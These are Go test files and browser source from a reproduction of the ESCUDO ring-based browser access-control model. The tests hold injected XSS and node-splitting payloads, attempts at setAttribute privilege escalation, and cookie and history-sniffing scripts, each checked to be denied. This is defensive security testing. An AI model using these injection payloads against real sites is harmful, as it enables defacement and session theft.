	b := New(newTestNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// Ring-1 script cannot read browser state (§4.1: ring 0 only).
	err = p.RunScriptRing(1, "h1", `var n = window.history.length;`)
	var denied *dom.DeniedError
	if !errors.As(err, &denied) {
		t.Fatalf("err = %v, want denial", err)
	}
	// Ring-0 script can.
	if err := p.RunScriptRing(0, "h0", `log("len=" + window.history.length);`); err != nil {
		t.Fatal(err)
	}
	if lines := b.Console.Lines(); len(lines) != 1 || lines[0] != "len=1" {
		t.Errorf("lines = %v", lines)
	}
	// Visited-link sniffing denied below ring 0.
	err = p.RunScriptRing(2, "sniff", `window.history.visited("http://app.example/");`)
	if !errors.As(err, &denied) {
		t.Errorf("sniffing err = %v, want denial", err)
	}
}

func TestEventDispatch(t *testing.T) {
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<div ring=1 r=1 w=1 x=1 id=app>` +
			`<p id=target onclick="document.getElementById('out').innerText = 'clicked';"></p>` +
			`<p id=out></p></div>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// User (browser, ring 0) clicks: handler runs at the element's
	// ring (1), which may write #out (ring 1).
	if err := p.DispatchEvent(p.Doc.ByID("target"), "click", nil); err != nil {
		t.Fatal(err)
	}
	out, err := dom.NewAPI(p.Doc, core.Principal(site, 0, "t"), p.Monitor).InnerText(p.Doc.ByID("out"))
	if err != nil || out != "clicked" {
		t.Errorf("out = %q, %v", out, err)
	}
	// A ring-3 principal cannot deliver events to the ring-1 element
	// (use is mediated, §4.1).
	evil := core.Principal(site, 3, "evil")
	err = p.DispatchEvent(p.Doc.ByID("target"), "click", &evil)
	var denied *dom.DeniedError
	if !errors.As(err, &denied) {
		t.Errorf("err = %v, want denial", err)
	}
}

func TestPageScriptsRunAtTheirRing(t *testing.T) {
	// A script element inside ring-3 user content executes with
	// ring-3 privileges and cannot deface ring-1 content — the XSS
	// neutralization mechanism.
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<div ring=1 r=1 w=1 x=1 id=app><p id=msg>hello</p></div>` +
			`<div ring=3 r=3 w=3 x=3 id=user>` +
			`<script>document.getElementById("msg").innerText = "pwned";</script>` +
			`</div>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if len(p.ScriptErrors) != 1 {
		t.Fatalf("ScriptErrors = %v, want the injected script to fail", p.ScriptErrors)
	}
	var denied *dom.DeniedError
	if !errors.As(p.ScriptErrors[0], &denied) {
		t.Errorf("err = %v, want denial", p.ScriptErrors[0])
	}
	// Same page in SOP mode: the script succeeds (the §2.3 failure).
	bsop := New(net, Options{Mode: ModeSOP})
	psop, err := bsop.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if len(psop.ScriptErrors) != 0 {
		t.Errorf("SOP ScriptErrors = %v", psop.ScriptErrors)
	}
}

func TestSubresourceInitiatorContext(t *testing.T) {
	// An img inside ring-3 content fetches without the ring-1 session
	// cookie; an img in ring-1 content carries it.
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<div ring=1 r=1 w=1 x=1 id=app><img src="/app.png"></div>` +
			`<div ring=3 r=3 w=3 x=3 id=user><img src="/user.png"></div>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		resp.Header.Add("Set-Cookie", "sid=top; Path=/")
		resp.Header.Add(core.HeaderCookie, "sid; ring=1; r=1; w=1; x=1")
		return resp
	}))
	b := New(net, Options{Mode: ModeEscudo})
	if _, err := b.Navigate(site.URL("/")); err != nil {
		t.Fatal(err)
	}
	appImg := net.FindRequests(site, func(e web.LogEntry) bool { return e.Path == "/app.png" })
	userImg := net.FindRequests(site, func(e web.LogEntry) bool { return e.Path == "/user.png" })
	if len(appImg) != 1 || len(userImg) != 1 {
		t.Fatalf("img fetches: app=%d user=%d", len(appImg), len(userImg))
	}
	if !appImg[0].HasCookie("sid") {
		t.Error("ring-1 img must carry the ring-1 cookie")
	}
	if userImg[0].HasCookie("sid") {
		t.Error("ring-3 img must NOT carry the ring-1 cookie")
	}
}

func TestCompatibilityLegacyAppEscudoBrowser(t *testing.T) {
	// §6.3: "Non-ESCUDO applications ... all principals and object
	// inside the application are assigned to a single ring,
	// effectively mimicking the same-origin policy."
	b := New(newTestNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/legacy"))
	if err != nil {
		t.Fatal(err)
	}
	if p.Config.Configured() {
		t.Error("legacy page must be unconfigured")
	}
	// Everything is ring 0; any same-origin script has full power.
	if err := p.RunScriptRing(0, "s", `document.getElementById("x").innerText = "w";`); err != nil {
		t.Errorf("legacy page script: %v", err)
	}
	// The ring attribute on the legacy page is inert markup, but an
	// ESCUDO browser parsing in escudo mode still hides nothing —
	// MaxRing 0 clamps labels to 0.
	if x := p.Doc.ByID("x"); x.Ring != 0 {
		t.Errorf("legacy element ring = %d, want 0", x.Ring)
	}
}

func TestCompatibilityEscudoAppSOPBrowser(t *testing.T) {
	// §6.3: ESCUDO-configured applications on non-ESCUDO browsers —
	// attributes and headers are ignored, everything works under SOP.
	b := New(newTestNetwork(), Options{Mode: ModeSOP})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// AC attributes remain visible, ordinary markup.
	app := p.Doc.ByID("app")
	if v, _ := app.Attr("ring"); v != "1" {
		t.Errorf("SOP browser must keep ring attr, got %q", v)
	}
	// Any same-origin script can modify anything.
	if err := p.RunScriptRing(3, "s", `document.getElementById("appmsg").innerText = "sop";`); err != nil {
		t.Errorf("SOP script: %v", err)
	}
}

func TestNonceDefenseEndToEnd(t *testing.T) {
	// §5: node-splitting injected through user content is ignored by
	// the parser; the forged high-privilege div stays in ring 3.
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<div ring=1 r=1 w=1 x=1 id=app>app</div>` +
			`<div ring=3 r=3 w=3 x=3 nonce=8675309 id=user>` +
			`</div><div ring=0 id=forged><script>document.getElementById("app").innerText = "pwned";</script></div>` +
			`</div nonce=8675309>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	forged := p.Doc.ByID("forged")
	if forged == nil || forged.Ring != 3 {
		t.Fatalf("forged ring = %v, want clamped 3", forged)
	}
	// The injected script ran at ring 3 and was denied.
	if len(p.ScriptErrors) != 1 {
		t.Fatalf("ScriptErrors = %v", p.ScriptErrors)
	}
	var denied *dom.DeniedError
	if !errors.As(p.ScriptErrors[0], &denied) {
		t.Errorf("err = %v", p.ScriptErrors[0])
	}
}

func TestSetAttributePrivilegeEscalationBlocked(t *testing.T) {
	// §5(1) end to end: scripts cannot remap rings via setAttribute.
	b := New(newTestNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	err = p.RunScriptRing(1, "esc", `
var el = document.getElementById("app");
el.setAttribute("ring", "0");`)
	if !errors.Is(err, dom.ErrConfigAttribute) {
		t.Errorf("err = %v, want ErrConfigAttribute", err)
	}
	if p.Doc.ByID("app").Ring != 1 {
		t.Error("ring changed")
	}
	// Reading it yields nothing either.
	if err := p.RunScriptRing(1, "read", `log("ring=" + document.getElementById("app").getAttribute("ring"));`); err != nil {
		t.Fatal(err)
	}
	lines := b.Console.Lines()
	if lines[len(lines)-1] != "ring=" {
		t.Errorf("config attr visible: %v", lines)
	}
}

func TestFormSubmission(t *testing.T) {
	net := web.NewNetwork()
	var gotSubject string
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		if req.Path() == "/post" && req.Method == "POST" {
			gotSubject = req.Form.Get("subject")
			return web.HTML("posted")
		}
		resp := web.HTML(`<div ring=1 r=1 w=1 x=1 id=app>` +
			`<form id=f action="/post" method="post">` +
			`<input name=subject value=hello><textarea name=body>text</textarea>` +
			`</form></div>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	resp, err := p.SubmitForm(p.Doc.ByID("f"), nil)
	if err != nil || resp.Status != 200 {
		t.Fatalf("submit: %v %v", resp, err)
	}
	if gotSubject != "hello" {
		t.Errorf("subject = %q", gotSubject)
	}
}

func TestRedirectFollowed(t *testing.T) {
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		if req.Path() == "/start" {
			return web.Redirect("/end")
		}
		return web.HTML("<p>end</p>")
	}))
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/start"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasSuffix(p.URL, "/end") {
		t.Errorf("URL = %q", p.URL)
	}
}

func TestRedirectPreservesInitiator(t *testing.T) {
	// A cross-site navigation that 303s must not have its second hop
	// upgraded to browser privilege — otherwise the redirect target
	// would receive cookies the original initiator was denied.
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		switch req.Path() {
		case "/bounce":
			return web.Redirect("/landing")
		case "/landing":
			return web.HTML("landed")
		default:
			resp := web.HTML(`<p>home</p>`)
			resp.Header.Add("Set-Cookie", "sid=v; Path=/")
			resp.Header.Add(core.HeaderCookie, "sid; ring=1; r=1; w=1; x=1")
			resp.Header.Set(core.HeaderMaxRing, "3")
			return resp
		}
	}))
	b := New(net, Options{Mode: ModeEscudo})
	if _, err := b.Navigate(site.URL("/")); err != nil {
		t.Fatal(err)
	}
	net.ResetLog()
	// A cross-origin principal (as from a malicious page's anchor)
	// initiates the navigation.
	evilInit := core.Principal(evilSite, 0, "evil-anchor")
	if _, err := b.NavigateFrom(evilInit, site.URL("/bounce"), "a"); err != nil {
		t.Fatal(err)
	}
	for _, e := range net.FindRequests(site, nil) {
		if e.HasCookie("sid") {
			t.Errorf("redirect hop %s carried the session cookie for a cross-site initiator", e.Path)
		}
	}
	// The same flow initiated by the user (address bar) does carry it.
	net.ResetLog()
	if _, err := b.Navigate(site.URL("/bounce")); err != nil {
		t.Fatal(err)
	}
	landing := net.FindRequests(site, func(e web.LogEntry) bool { return e.Path == "/landing" })
	if len(landing) != 1 || !landing[0].HasCookie("sid") {
		t.Errorf("browser-initiated redirect must carry cookies: %+v", landing)
	}
}

func TestModeString(t *testing.T) {
	if ModeEscudo.String() != "escudo" || ModeSOP.String() != "sop" {
		t.Error("mode names")
	}
	if !strings.Contains(Mode(9).String(), "9") {
		t.Error("unknown mode")
	}
}
