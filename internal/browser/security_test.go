package browser

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/dom"
	"repro/internal/html"
	"repro/internal/nonce"
	"repro/internal/template"
	"repro/internal/web"
)

// This file is the §5 "Security Analysis of Escudo" of the paper as an
// executable test suite: every tampering method the paper enumerates
// for illegally elevating privilege, exercised end to end through the
// browser pipeline.

// securityPage builds a configured page with a nonce-sealed ring-3
// region, simulating a server that hosts attacker-influenced content.
func securityNetwork(userContent string) *web.Network {
	net := web.NewNetwork()
	builder := template.NewACBuilder(nonce.NewSeqSource(424242))
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		page := `<html><body>` +
			builder.Wrap(1, core.UniformACL(1), "id=app", `<p id=appmsg>trusted</p>`) +
			builder.Wrap(3, core.UniformACL(2), "id=user", userContent) +
			`</body></html>`
		resp := web.HTML(page)
		resp.Header.Set(core.HeaderMaxRing, "3")
		resp.Header.Add("Set-Cookie", "sid=tok; Path=/")
		resp.Header.Add(core.HeaderCookie, "sid; ring=1; r=1; w=1; x=1")
		return resp
	}))
	return net
}

// TestSecurityAnalysisSetAttribute is §5(1): "A JavaScript program may
// attempt to remap an AC tag to a higher privileged ring using the DOM
// API function setAttribute. ... such attempts to modify the
// attributes cannot succeed."
func TestSecurityAnalysisSetAttribute(t *testing.T) {
	b := New(securityNetwork(`inert`), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// Even a principal privileged enough to write the element (ring
	// 2 satisfies the user scope's ACL ≤ 2) cannot touch the
	// configuration attributes.
	err = p.RunScriptRing(2, "remap", `
var el = document.getElementById("user");
el.setAttribute("ring", "0");`)
	if !errors.Is(err, dom.ErrConfigAttribute) {
		t.Errorf("err = %v, want config-attribute rejection", err)
	}
	if p.Doc.ByID("user").Ring != 3 {
		t.Error("ring was remapped")
	}
}

// TestSecurityAnalysisConfigOpacity is the §5 premise: "the
// configuration information is not exposed to JavaScript programs."
func TestSecurityAnalysisConfigOpacity(t *testing.T) {
	b := New(securityNetwork(`inert`), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// Even a ring-0 principal sees nothing: opacity is unconditional.
	err = p.RunScriptRing(0, "peek", `
var el = document.getElementById("user");
log("ring:" + el.getAttribute("ring"));
log("nonce:" + el.getAttribute("nonce"));
log("html:" + document.body.innerHTML.indexOf("nonce"));`)
	if err != nil {
		t.Fatal(err)
	}
	lines := b.Console.Lines()
	if lines[0] != "ring:" || lines[1] != "nonce:" {
		t.Errorf("config visible: %v", lines)
	}
	if lines[2] != "html:-1" {
		t.Errorf("nonce leaked through innerHTML: %v", lines)
	}
}

// TestSecurityAnalysisNodeSplitting is §5(2): a premature </div>
// without the nonce is ignored, so injected content cannot escape its
// scope.
func TestSecurityAnalysisNodeSplitting(t *testing.T) {
	payloads := []string{
		`</div><div ring=0 id=forged1><script>document.getElementById("appmsg").innerText = "x";</script></div>`,
		`</div nonce=1><div ring=0 id=forged1><script>document.getElementById("appmsg").innerText = "x";</script></div>`,
		`</div nonce=999999></div nonce=0><div ring=0 id=forged1></div>`,
	}
	for i, payload := range payloads {
		t.Run(fmt.Sprintf("payload%d", i), func(t *testing.T) {
			b := New(securityNetwork(payload), Options{Mode: ModeEscudo})
			p, err := b.Navigate(site.URL("/"))
			if err != nil {
				t.Fatal(err)
			}
			if forged := p.Doc.ByID("forged1"); forged != nil && forged.Ring != 3 {
				t.Errorf("forged div escaped to ring %d", forged.Ring)
			}
			if got := html.InnerText(p.Doc.ByID("appmsg")); got != "trusted" {
				t.Errorf("app content modified: %q", got)
			}
		})
	}
}

// TestSecurityAnalysisCreatedPrincipalBounded is §5's closing
// argument: "a malicious principal cannot create a new principal that
// has higher privileges than itself. All the DOM modifications done
// using the DOM API are subject to the scoping rule."
func TestSecurityAnalysisCreatedPrincipalBounded(t *testing.T) {
	b := New(securityNetwork(`<div id=mine>my area</div>`), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// A ring-3 principal writes into ring-3 territory (ACL on #user
	// is ≤2, but #mine inherits r/w from the scope... the inner div
	// carries the scope ACL ≤2, so use a ring-2 principal writing
	// claimed-ring-0 markup instead: still must clamp to 3).
	err = p.RunScriptRing(2, "writer", `
document.getElementById("mine").innerHTML = "<div ring=0 id=minted><script id=ms>x()</scr" + "ipt></div>";`)
	if err != nil {
		t.Fatal(err)
	}
	minted := p.Doc.ByID("minted")
	if minted == nil {
		t.Fatal("minted div missing")
	}
	if minted.Ring != 3 {
		t.Errorf("minted ring = %d, want clamped 3", minted.Ring)
	}
	if bad := p.Doc.CheckScopingInvariant(); bad != nil {
		t.Errorf("scoping invariant violated at %v", bad)
	}
}

// TestSecurityAnalysisRingReassignmentOnce: "Escudo reads the
// configuration information provided by the application and performs
// the ring mapping exactly once." Reloading a page re-derives labels
// from fresh markup; nothing a script did earlier persists.
func TestSecurityAnalysisRingReassignmentOnce(t *testing.T) {
	b := New(securityNetwork(`inert`), Options{Mode: ModeEscudo})
	p1, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// Mutate the DOM as far as allowed.
	if err := p1.RunScriptRing(0, "m", `document.getElementById("user").innerText = "gone";`); err != nil {
		t.Fatal(err)
	}
	p2, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if got := html.InnerText(p2.Doc.ByID("user")); got != "inert" {
		t.Errorf("reloaded page = %q, want fresh mapping", got)
	}
}

// TestSecurityAnalysisCookieInvisibleNotError: inner-ring cookies are
// invisible to outer-ring reads rather than an error channel —
// document.cookie filters silently, leaking nothing, not even the
// cookie's existence.
func TestSecurityAnalysisCookieInvisibleNotError(t *testing.T) {
	b := New(securityNetwork(`<script>log("seen:" + document.cookie);</script>`), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if len(p.ScriptErrors) != 0 {
		t.Fatalf("cookie read must not error: %v", p.ScriptErrors)
	}
	lines := b.Console.Lines()
	if len(lines) != 1 || lines[0] != "seen:" {
		t.Errorf("lines = %v", lines)
	}
}

// TestSecurityAnalysisMalformedConfigFailsSafe: a tampered or
// corrupted configuration degrades to less privilege, never more.
func TestSecurityAnalysisMalformedConfigFailsSafe(t *testing.T) {
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<div ring=banana r=9 w=-3 x=zz id=x>content</div>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		resp.Header.Add(core.HeaderCookie, "sid; ring=99")      // out of range
		resp.Header.Add(core.HeaderAPI, "xmlhttprequest; ring") // malformed
		resp.Header.Add("Set-Cookie", "sid=v; Path=/")
		return resp
	}))
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if len(p.ConfigErrors) == 0 {
		t.Error("malformed headers must be reported")
	}
	// The div's bogus ring degrades to the least privileged ring.
	if x := p.Doc.ByID("x"); x.Ring != 3 {
		t.Errorf("bogus ring = %d, want fail-safe 3", x.Ring)
	}
	// The malformed cookie config is dropped: ring-0 default, which
	// only ring-0 principals can use.
	c, ok := b.Jar().Get(site, "sid")
	if !ok || c.Ring != 0 {
		t.Errorf("cookie = %+v, want fail-safe ring 0", c)
	}
	// The malformed API config is dropped: ring-0 default denies
	// outer scripts.
	err = p.RunScriptRing(2, "x2", `var x = new XMLHttpRequest(); x.open("GET", "/");`)
	var denied *dom.DeniedError
	if !errors.As(err, &denied) {
		t.Errorf("err = %v, want xhr denial under fail-safe ring 0", err)
	}
}

// TestSecurityAnalysisScriptCannotForgeMonitor: script values cannot
// reach or replace the page monitor — there is no binding that exposes
// it. This is a structural test: the environment only contains the
// expected host objects.
func TestSecurityAnalysisScriptCannotForgeMonitor(t *testing.T) {
	b := New(securityNetwork(`inert`), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	err = p.RunScriptRing(3, "probe", `log(typeof monitor); log(typeof erm); log(typeof page);`)
	if err == nil {
		t.Fatal("undefined globals must error")
	}
	if !strings.Contains(err.Error(), "undefined variable") {
		t.Errorf("err = %v", err)
	}
}
