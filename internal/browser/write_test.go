package browser

import (
	"errors"
	"testing"

	"repro/internal/core"
	"repro/internal/dom"
	"repro/internal/html"
	"repro/internal/web"
)

// writeNetwork serves a page whose body is writable by ring 1 so
// document.write has a legal target.
func writeNetwork(extra string) *web.Network {
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<html><div ring=1 r=1 w=1 x=1 id=shell><body>` +
			`<div ring=1 r=1 w=1 x=1 id=app><p id=msg>orig</p></div>` + extra +
			`</body></div></html>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	return net
}

func TestDocumentWriteAppends(t *testing.T) {
	b := New(writeNetwork(""), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if err := p.RunScriptRing(1, "w", `document.write("<p id=written>hello write</p>");`); err != nil {
		t.Fatal(err)
	}
	written := p.Doc.ByID("written")
	if written == nil || html.InnerText(written) != "hello write" {
		t.Fatalf("written = %+v", written)
	}
	if written.Ring != 1 {
		t.Errorf("written ring = %d, want writer's ring 1", written.Ring)
	}
}

func TestDocumentWriteScopingRule(t *testing.T) {
	// A ring-1 writer cannot mint a ring-0 principal via write.
	b := New(writeNetwork(""), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if err := p.RunScriptRing(1, "w", `document.write("<div ring=0 id=minted>x</div>");`); err != nil {
		t.Fatal(err)
	}
	if minted := p.Doc.ByID("minted"); minted == nil || minted.Ring != 1 {
		t.Errorf("minted = %+v, want clamped to ring 1", minted)
	}
}

func TestDocumentWriteDeniedBelowBodyACL(t *testing.T) {
	// The body is ring-1/w=1: a ring-3 script cannot write into it.
	b := New(writeNetwork(""), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	err = p.RunScriptRing(3, "w3", `document.write("<p id=sneak>x</p>");`)
	var denied *dom.DeniedError
	if !errors.As(err, &denied) {
		t.Fatalf("err = %v, want denial", err)
	}
	if p.Doc.ByID("sneak") != nil {
		t.Error("denied write still landed")
	}
}

func TestDocumentWriteRunsNewScriptsOnce(t *testing.T) {
	// Page script A writes script B; B runs exactly once and A is
	// not re-run.
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<html><div ring=1 r=1 w=1 x=1 id=shell><body>` +
			`<div ring=1 r=1 w=1 x=1 id=app>` +
			`<script id=a>log("A"); document.write("<scr" + "ipt id=b>log('B');</scr" + "ipt>");</script>` +
			`</div></body></div></html>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if len(p.ScriptErrors) != 0 {
		t.Fatalf("errors = %v", p.ScriptErrors)
	}
	lines := b.Console.Lines()
	if len(lines) != 2 || lines[0] != "A" || lines[1] != "B" {
		t.Errorf("lines = %v, want exactly [A B]", lines)
	}
}

func TestHistoryBack(t *testing.T) {
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		if req.Path() == "/second" {
			return web.HTML(`<p id=second>2</p>`)
		}
		resp := web.HTML(`<div ring=1 r=1 w=1 x=1 id=app>first</div>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))
	b := New(net, Options{Mode: ModeEscudo})
	if _, err := b.Navigate(site.URL("/")); err != nil {
		t.Fatal(err)
	}
	if _, err := b.Navigate(site.URL("/second")); err != nil {
		t.Fatal(err)
	}
	p, err := b.Back()
	if err != nil {
		t.Fatal(err)
	}
	if p == nil || p.Doc.ByID("app") == nil {
		t.Error("Back did not return the first page")
	}
	// Back at history start is a no-op.
	b2 := New(net, Options{Mode: ModeEscudo})
	if p, err := b2.Back(); p != nil || err != nil {
		t.Errorf("Back on empty history = %v, %v", p, err)
	}
}

func TestHistoryBackScriptMediated(t *testing.T) {
	net := writeNetwork("")
	b := New(net, Options{Mode: ModeEscudo})
	if _, err := b.Navigate(site.URL("/")); err != nil {
		t.Fatal(err)
	}
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// Ring-1 script cannot drive history (browser state is ring 0).
	err = p.RunScriptRing(1, "h", `window.history.back();`)
	var denied *dom.DeniedError
	if !errors.As(err, &denied) {
		t.Fatalf("err = %v, want denial", err)
	}
	// Ring-0 may.
	if err := p.RunScriptRing(0, "h0", `window.history.back();`); err != nil {
		t.Fatal(err)
	}
}
