package browser

import (
	"sync/atomic"
	"testing"
)

// TestPolicyGenCapturedOncePerLoad pins the whole-load generation
// contract: the source is read exactly once at the entry of each
// top-level load, every frame of that load inherits the pinned value
// (even though the source keeps advancing), and the audit log sees
// zero mixed-generation pages.
func TestPolicyGenCapturedOncePerLoad(t *testing.T) {
	// A pathological source: every read returns a fresh generation, so
	// any second read within one load would be visible as a mix.
	var src atomic.Uint64
	src.Store(5)
	b := New(frameNetwork(), Options{Mode: ModeEscudo, PolicyGen: func() uint64 {
		return src.Add(1) - 1
	}})

	p1, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if p1.PolicyGen != 5 || p1.PageID == 0 {
		t.Fatalf("page pinned gen=%d id=%d, want gen 5 and a nonzero id", p1.PolicyGen, p1.PageID)
	}
	// The frames loaded mid-flight — after the source already advanced
	// — carry the parent's pinned generation and page identity.
	for i, f := range p1.Frames {
		if f.Page == nil {
			continue
		}
		if f.Page.PolicyGen != p1.PolicyGen || f.Page.PageID != p1.PageID {
			t.Fatalf("frame %d: gen=%d id=%d, want the parent's %d/%d",
				i, f.Page.PolicyGen, f.Page.PageID, p1.PolicyGen, p1.PageID)
		}
	}

	// The next top-level load captures afresh.
	p2, err := b.Navigate(site.URL("/inner"))
	if err != nil {
		t.Fatal(err)
	}
	if p2.PolicyGen <= p1.PolicyGen || p2.PageID == p1.PageID {
		t.Fatalf("second load: gen=%d id=%d, want a later generation and a new id", p2.PolicyGen, p2.PageID)
	}

	// Every audited decision of a load carries its pinned generation:
	// two loads, two generations, zero pages that saw more than one.
	mix := b.Audit.GenerationMix()
	if mix.Pages != 2 || mix.Mixed != 0 || mix.Generations != 2 {
		t.Fatalf("generation mix = %+v, want 2 pages, 0 mixed, 2 generations", mix)
	}
}

// TestNoPolicyGenStampsNothing pins the default: without a control
// plane wired, pages and decisions carry zero stamps and the
// generation audit has nothing to report — the monitor stack is
// byte-identical to a build without the layer.
func TestNoPolicyGenStampsNothing(t *testing.T) {
	b := New(frameNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if p.PolicyGen != 0 || p.PageID != 0 {
		t.Fatalf("unwired browser stamped gen=%d id=%d", p.PolicyGen, p.PageID)
	}
	mix := b.Audit.GenerationMix()
	if mix.Pages != 0 || mix.Generations != 0 {
		t.Fatalf("generation mix = %+v, want all zero", mix)
	}
}
