// Package browser implements the web browser of the reproduction: the
// navigation pipeline (fetch → configuration extraction → labeled
// parse → layout → script execution), cookie attachment, form
// submission, subresource loading, UI event dispatch, and browser
// state. It hosts the ESCUDO Reference Monitor in ESCUDO mode and the
// classic same-origin policy in SOP mode, so the two protection models
// can be compared head to head as in the paper's §6.4 and Figure 4.
package browser

import (
	"errors"
	"fmt"
	"net/url"
	"strings"
	"sync/atomic"
	"time"

	"repro/internal/cookie"
	"repro/internal/core"
	"repro/internal/css"
	"repro/internal/dom"
	"repro/internal/html"
	"repro/internal/layout"
	"repro/internal/obs"
	"repro/internal/origin"
	"repro/internal/script"
	"repro/internal/web"
)

// Mode selects the protection model the browser enforces.
type Mode int

// Browser modes.
const (
	// ModeEscudo enforces the ESCUDO MAC policy (rings + ACLs +
	// origin), with SOP-equivalent behaviour for unconfigured pages.
	ModeEscudo Mode = iota + 1
	// ModeSOP enforces only the same-origin policy, reproducing the
	// legacy behaviour the paper's attacks exploit. Cookies attach to
	// requests "irrespective of who is making the request" (§2.3).
	ModeSOP
)

// String names the mode.
func (m Mode) String() string {
	switch m {
	case ModeEscudo:
		return "escudo"
	case ModeSOP:
		return "sop"
	default:
		return fmt.Sprintf("mode(%d)", int(m))
	}
}

// Options configures a browser.
type Options struct {
	// Mode selects the protection model (default ModeEscudo).
	Mode Mode
	// ViewportWidth is the layout width (default 80).
	ViewportWidth int
	// MaxScriptSteps bounds each script run (default 1e6).
	MaxScriptSteps int
	// DisableRender skips the layout pass (used by parse-only
	// benchmarks).
	DisableRender bool
	// DisableScripts skips script execution (used by benchmarks and
	// the inspect tool).
	DisableScripts bool
	// MaxFrameDepth bounds nested iframe loading (default 3; the
	// browser "can simultaneously host multiple systems", §4, and
	// each frame is its own per-page ring system).
	MaxFrameDepth int
	// AblateNonceDefense and AblateScopingRule disable the §5
	// defenses FOR ABLATION EXPERIMENTS ONLY; see html.Options.
	AblateNonceDefense bool
	AblateScopingRule  bool
	// Cache, when non-nil, memoizes reference-monitor verdicts. A
	// cache may be shared by many browsers (the engine's session pool
	// shares one across all sessions), but every browser sharing it
	// must run in the same Mode — ERM and SOP verdicts are not
	// interchangeable.
	Cache *core.DecisionCache
	// MonitorFactory, when non-nil, builds the policy stack mediating
	// each page instead of the default (the Mode's base monitor under
	// the shared Cache). The browser composes its audit layer around
	// whatever the factory returns, so complete mediation stays
	// recorded whatever the stack — a factory returning a delegation-
	// aware pipeline (core.Compose with core.WithDelegations, or a
	// *mashup.Monitor) runs the §7 model inside real sessions.
	//
	// The factory must return a monitor consistent with Mode: the mode
	// still governs configuration parsing and cookie attachment
	// semantics.
	MonitorFactory MonitorFactory
	// DecisionRing, when non-nil, mirrors every audited decision into
	// the last-N provenance ring the gateway serves at /tracez. Like
	// Cache it is typically shared by every session of an engine pool.
	DecisionRing *obs.DecisionRing
	// PolicyGen, when non-nil, is the control-plane generation source
	// (typically ctlplane.Watcher.Generation, or Store.Generation for
	// in-memory deployments). The browser reads it exactly once at the
	// entry of each top-level page load and pins the value for the
